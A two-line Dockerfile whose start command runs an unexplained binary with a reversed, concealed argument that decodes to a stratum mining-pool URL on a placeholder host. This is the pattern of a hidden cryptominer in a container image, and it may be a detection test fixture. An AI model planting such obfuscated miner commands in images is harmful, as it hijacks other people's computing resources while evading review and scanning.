FROM debian:12-slim
CMD ["/srv/server", "333:dilavni.elpmaxe.krow//:pct+mutarts"]
